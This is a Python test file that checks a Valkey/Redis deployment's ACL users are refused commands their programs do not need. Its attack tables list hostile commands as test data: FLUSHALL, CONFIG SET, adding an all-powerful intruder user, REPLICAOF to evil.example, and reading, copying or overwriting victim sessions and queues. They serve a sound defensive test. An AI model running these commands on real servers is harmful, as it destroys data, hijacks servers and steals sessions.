"""What the Redis users of deploy/make-secrets cannot do, whoever has the URL of one."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from redis import Redis
from redis.exceptions import NoPermissionError, ResponseError

from tests.deployed_valkey import DeployedValkey, deployed_valkey
from tests.deployment import ROOT
from tests.producer_user import rules

_SESSION = "media-atproto:session:did:plc:victim:bound"
_HOME = "media-atproto:home:did:plc:victim"
_PARKED = "media-atproto:parked:did:plc:victim:bound"
_MESSAGE = "message of another program"
_SCRIPT = "return redis.call('GET', KEYS[1])"

ALL = {
    "list all keys": ("KEYS", "*"),
    "delete everything": ("FLUSHALL",),
    "delete the database": ("FLUSHDB",),
    "change the configuration": ("CONFIG", "SET", "dir", "/tmp"),
    "read the configuration": ("CONFIG", "GET", "*"),
    "add a user": ("ACL", "SETUSER", "intruder", "on", "nopass", "~*", "+@all"),
    "read the users": ("ACL", "LIST"),
    "watch all commands": ("MONITOR",),
    "stop the server": ("SHUTDOWN", "NOSAVE"),
    "disconnect others": ("CLIENT", "KILL", "TYPE", "normal"),
    "follow another server": ("REPLICAOF", "evil.example", "6379"),
    "load a library": ("FUNCTION", "LOAD", "#!lua name=x\nredis.register_function('x', print)"),
    "run any script": ("EVAL", _SCRIPT, "1", "foreign"),
    "write a foreign key": ("SET", "foreign", "x"),
}
SESSIONS = {
    "read a session": ("GET", _SESSION),
    "copy a session": ("COPY", _SESSION, "media-atproto:home:x"),
    "write a session": ("SET", _SESSION, "x"),
    "delete a session": ("DEL", _SESSION),
}
MESSAGES = {
    "read messages": ("LRANGE", "live", "0", "-1"),
    "take a message": ("RPOP", "live"),
    "wait for a message": ("BRPOP", "live", "1"),
    "move a message": ("LMOVE", "live", "media-atproto:home:x", "LEFT", "LEFT"),
    "delete a queue": ("DEL", "live"),
    "read messages in flight": ("HGETALL", "unacked"),
}
READS = {
    "read a PDS URL": ("GET", _HOME),
    "read parked accounts": ("GET", _PARKED),
    "scan for keys": ("SCAN", "0"),
}
WRITES = {
    "park an account": ("SET", _PARKED, "x"),
    "resume an account": ("DEL", _PARKED),
    "change a lock": ("SET", "media-atproto:repo:did:plc:victim", "x"),
    "push to the queue for saves": ("LPUSH", "live", "x"),
    "push to an overflow list": ("LPUSH", "live\x06\x169", "x"),
}
CACHES = {
    "change a PDS URL": ("SET", _HOME, "https://evil.example"),
    "change a budget": ("HSET", "media-atproto:budget:pds.example", "shut", "1"),
    "push to the queue for batches": ("LPUSH", "bulk", "x"),
    "push to the queue of sweeps": ("LPUSH", "sweep", "x"),
}
PUSHING = {
    **READS,
    **CACHES,
    **{name: attack for name, attack in WRITES.items() if name != "push to the queue for saves"},
    "overwrite the queue": ("SET", "live", "x"),
    "shorten the queue": ("LTRIM", "live", "0", "0"),
    "load a script": ("SCRIPT", "LOAD", _SCRIPT),
    "send events": ("PUBLISH", "/0.celeryev/task.multi", "x"),
    "receive events": ("PSUBSCRIBE", "*"),
    "use a transaction": ("MULTI",),
    "use another database": ("SELECT", "1"),
}
OF_USER: dict[str, dict[str, tuple[str, ...]]] = {
    **dict.fromkeys(("producer", "beat", "watch"), SESSIONS | MESSAGES | PUSHING),
    "flower": SESSIONS | MESSAGES | READS | WRITES | CACHES,
    "web": SESSIONS | MESSAGES | WRITES | {"receive events": ("PSUBSCRIBE", "*")},
    "operator": MESSAGES | {"receive events": ("PSUBSCRIBE", "*")},
    "worker": {"read all channels": ("PSUBSCRIBE", "*")},
}
ATTACKS = [
    pytest.param(user, attack, id=f"{user}: {name}")
    for user, attacks in OF_USER.items()
    for name, attack in (ALL | attacks).items()
]


@pytest.fixture(scope="module")
def valkey(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DeployedValkey]:
    """Run the Valkey of docker-compose.yml, with something to steal in it."""
    with deployed_valkey(tmp_path_factory.mktemp("valkey")) as running:
        with running.connect_auditor() as auditor:
            for name in (_SESSION, _HOME, _PARKED):
                auditor.set(name, "secret")
            auditor.lpush("live", _MESSAGE)
        yield running


@pytest.mark.parametrize(("user", "attack"), ATTACKS)
def test_a_user_is_denied_what_its_program_does_not_do(
    valkey: DeployedValkey, user: str, attack: tuple[str, ...]
) -> None:
    """The error is that of the ACL, not of a wrong command."""
    with valkey.connect(user) as redis, pytest.raises(NoPermissionError):
        redis.execute_command(*attack)


@pytest.mark.parametrize("user", ["web", "worker"])
def test_a_script_may_do_no_more_than_its_user(valkey: DeployedValkey, user: str) -> None:
    """The keys that it names, and those that it does not name, are checked."""
    stolen = {"web": _SESSION, "worker": "foreign"}[user]
    with valkey.connect(user) as redis:
        named = redis.script_load(_SCRIPT)
        hidden = redis.script_load(f"return redis.call('GET', '{stolen}')")
        for call in (("EVALSHA", named, 1, stolen), ("EVALSHA", hidden, 0)):
            with pytest.raises(ResponseError, match=r"NOPERM|No permissions|ACL failure"):
                redis.execute_command(*call)


def test_without_a_password_only_the_health_check_is_answered(valkey: DeployedValkey) -> None:
    """Its PING tells nothing."""
    with Redis(port=valkey.port) as stranger:
        assert stranger.ping()
        for attack in (ALL | SESSIONS | MESSAGES | PUSHING).values():
            with pytest.raises(NoPermissionError):
                stranger.execute_command(*attack)


def test_a_producer_can_only_append_to_the_queue(valkey: DeployedValkey) -> None:
    """It does not see the messages of others, except for their number."""
    with valkey.connect("producer") as producer, valkey.connect_auditor() as auditor:
        before = auditor.llen("live")
        assert producer.lpush("live", "x") == before + 1
        assert auditor.rpop("live") == _MESSAGE.encode()


def test_the_page_for_producers_has_the_user_of_make_secrets() -> None:
    """So what is tested of one holds for the other."""
    assert f"user producer {rules()}\n" in (ROOT / "deploy/valkey.acl").read_text()
